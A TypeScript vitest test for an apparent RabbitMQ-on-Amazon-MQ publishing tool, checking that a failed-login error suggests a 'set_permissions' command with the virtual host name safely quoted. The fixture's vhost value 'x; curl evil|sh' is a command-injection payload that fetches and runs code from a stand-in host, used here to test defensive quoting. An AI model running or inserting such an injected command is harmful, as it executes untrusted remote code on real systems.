import {expect, test} from 'vitest'

import {MqliftError} from '../../../src/errors.ts'
import {OF_TARGET} from '../../../src/protocols/words.ts'
import {Link} from '../../../src/targets/amazon-mq-rabbitmq/link.ts'

test('a command for missing rights hands the shell one word for the virtual host', async () => {
  const login = new MqliftError('unreachable', 'no', {reason: 'login-failed'})
  const link = new Link({
    connect: () => Promise.reject(login),
    vhost: 'x; curl evil|sh',
    queue: 'orders',
    confirmMs: 1000,
    display: 'amqps://host:5671',
    words: OF_TARGET,
    say: () => undefined,
  })
  await expect(link.publisher(new AbortController().signal)).rejects.toMatchObject({
    kind: 'refused',
    reason: 'access-denied',
    suggestions: expect.arrayContaining([
      expect.stringContaining("set_permissions -p 'x; curl evil|sh' <user>"),
    ]),
  })
})
